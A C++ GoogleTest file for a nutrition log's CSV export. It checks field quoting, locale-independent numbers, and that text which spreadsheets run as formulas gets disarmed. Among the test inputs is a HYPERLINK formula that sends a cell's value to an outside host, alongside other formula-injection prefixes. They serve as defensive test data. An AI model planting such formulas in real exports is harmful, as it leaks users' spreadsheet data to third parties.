#include "document/fileio/CsvExport.h"

#include "model/Meal.h"
#include "model/UserLog.h"
#include "refdata/DataSourceMgr.h"
#include "support/GermanLocale.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cmath>
#include <limits>

using ::testing::EndsWith;
using ::testing::HasSubstr;

namespace {

// Quoting as RFC 4180 has it; a text a spreadsheet would run as a formula gets a leading
// apostrophe and stays otherwise as it was.
TEST(CsvField, QuotesOnlyWhatNeedsItAndDisarmsFormulas) {
    struct Case {
        const char* text;
        const char* field;
    };
    const Case cases[] = {
        {"Stew", "Stew"},
        {"", ""},
        {"Soup, hot", "\"Soup, hot\""},
        {"5\" pie", "\"5\"\" pie\""},
        {"line\nbreak", "\"line\nbreak\""},
        {"cr\rhere", "\"cr\rhere\""},
        {"Crème brûlée; 'x'", "Crème brûlée; 'x'"},
        {"=HYPERLINK(\"http://x.test/?d=\"&A1,\"Click\")",
         "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"Click\"\")\""},
        {"+1+1", "'+1+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"\tcmd", "'\tcmd"},
        {"\rcmd", "\"'\rcmd\""},
        {"a=b+c-d@e", "a=b+c-d@e"},
        {" =1", " =1"},
    };
    for (const Case& c : cases) EXPECT_EQ(c.field, CsvExport::Field(c.text)) << c.text;
}

TEST(CsvNumber, TakesADotWhateverTheLocale) {
    const ScopedGermanNumbers german;
    if (!german.Active()) GTEST_SKIP() << german.Why();
    EXPECT_EQ("1234.5", CsvExport::Number(1234.5));
    EXPECT_EQ("0.1", CsvExport::Number(0.1));
    EXPECT_EQ("1e+07", CsvExport::Number(1e7));
    EXPECT_EQ("", CsvExport::Number(std::numeric_limits<double>::quiet_NaN()));
    EXPECT_EQ("", CsvExport::Number(INFINITY));
}

class CsvOfALog : public testing::Test {
protected:
    CsvOfALog() {
        std::string error;
        EXPECT_TRUE(foods_.Load(std::string(VELMORA_TEST_DATA) + "/document/foods.xml", {}, error)) << error;
    }
    void Eat(const std::string& day, int key, double grams) {
        log_.SelectDay(day);
        log_.AddFood(grams, 0, "", *foods_.FindFood(FoodKey(key, 7)));
    }

    CDataSourceMgr foods_;
    Meal::CMealManager meals_;
    NS_Data::CUserLog log_{&meals_, &foods_};
};

TEST_F(CsvOfALog, DailyRowsOnlyForDaysWithFoodsOrFactValues) {
    Eat("20240301", 100, 100);
    log_.SelectDay("20240302");  // in the log, but empty
    log_.GetCurrentDay()->SetFact("Extra Energy", 250);
    log_.SelectDay("20240303");
    log_.GetCurrentDay()->SetFact("Weight", UserLog::kUndefinedValue);
    log_.SelectDay("20240304");
    Eat("20240305", 100, 100);  // after the range

    EXPECT_EQ(
        "date,Energy (kcal),Protein (g),Total lipid (fat) (g),\"Carbohydrate, by difference (g)\",\"Iron, Fe (mg)\","
        "Vitamin C (mg),Weight (kg),Extra Energy (kcal)\r\n"
        "20240301,0,10,5,20,1.23,7.3,,\r\n"
        "20240302,,,,,,,,250\r\n",
        CsvExport::Text(log_, CsvExport::Kind::Daily, "20240101", "20240304"));
    EXPECT_EQ(
        "date,meal,food,SOURCE:KEY,amount,unit,grams,Energy (kcal),Protein (g),Total lipid (fat) (g),"
        "\"Carbohydrate, by difference (g)\",\"Iron, Fe (mg)\",Vitamin C (mg)\r\n",
        CsvExport::Text(log_, CsvExport::Kind::Entries, "20240302", "20240304"));
}

// Names anyone may have typed (a meal, a fact) are disarmed wherever they stand, the header
// included; numbers, negative ones too, stay numbers a spreadsheet can add up.
TEST_F(CsvOfALog, TextCellsAreDisarmedAndNegativeNumbersStayNumbers) {
    log_.Facts().AddOrUpdate(UserLog::CFactReference("=1+2", UserLog::kUndefinedValue, ""));
    log_.SelectDay("20240301");
    log_.AddFood(100, 0, "@Lunch", *foods_.FindFood(FoodKey(100, 7)));
    log_.GetCurrentDay()->SetFact("=1+2", -2.5);

    const std::string daily = CsvExport::Text(log_, CsvExport::Kind::Daily, "20240301", "20240301");
    EXPECT_THAT(daily, HasSubstr(",'=1+2\r\n"));
    EXPECT_THAT(daily, EndsWith(",-2.5\r\n"));
    EXPECT_THAT(CsvExport::Text(log_, CsvExport::Kind::Entries, "20240301", "20240301"),
                HasSubstr("\r\n20240301,'@Lunch,Stew,7:100,"));
}

}  // namespace
